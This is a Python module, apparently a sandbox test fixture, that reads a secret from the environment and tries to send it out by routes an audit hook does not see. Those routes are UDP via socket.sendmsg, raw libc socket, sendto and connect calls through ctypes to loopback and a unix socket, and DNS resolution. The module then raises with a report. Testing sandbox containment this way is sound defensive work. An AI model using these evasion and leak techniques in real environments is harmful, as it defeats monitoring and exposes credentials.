"""Tries every way out that the audit hook does not see: UDP through socket.sendmsg, UDP and an AF_UNIX connect
through libc, name resolution, and the environment (a secret in it). The targets are in TARGET below
(written there by the test: a UDP port and a unix socket path on the grading machine; a module cannot read files
beside it). It always raises, with a report
of what it saw; the test checks the listeners, not the report."""

import ctypes
import json
import os
import socket
import struct

TARGET = "{}"  # the test writes the targets' JSON here
target = json.loads(TARGET)
secret = os.environ.get(target["secret_name"], "absent")
payload = f"leak:{secret}".encode()
report = [f"secret={'absent' if secret == 'absent' else 'VISIBLE'}"]


def attempt(what, action):
    try:
        report.append(f"{what}: {action()}")
    except Exception as exc:  # noqa: BLE001
        report.append(f"{what}: failed ({exc.__class__.__name__})")


def udp_sendmsg():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendmsg([payload], [], 0, ("127.0.0.1", target["udp_port"]))


libc = ctypes.CDLL(None, use_errno=True)


def native_udp():
    fd = libc.socket(2, 2, 0)  # AF_INET, SOCK_DGRAM
    if fd < 0:
        return f"socket errno {ctypes.get_errno()}"
    addr = struct.pack("<H", 2) + struct.pack(">H", target["udp_port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    return libc.sendto(fd, payload, len(payload), 0, addr, len(addr))


def native_unix():
    fd = libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
    if fd < 0:
        return f"socket errno {ctypes.get_errno()}"
    path = target["unix_path"].encode()
    addr = struct.pack("<H", 1) + path + bytes(108 - len(path))
    rc = libc.connect(fd, addr, len(addr))
    if rc == 0:
        libc.send(fd, payload, len(payload), 0)
    return f"connect rc {rc} errno {ctypes.get_errno()}"


attempt("udp sendmsg", udp_sendmsg)
attempt("native udp", native_udp)
attempt("native unix connect", native_unix)
attempt("getaddrinfo", lambda: len(socket.getaddrinfo("localhost", 80)))
raise RuntimeError("network report: " + "; ".join(report))
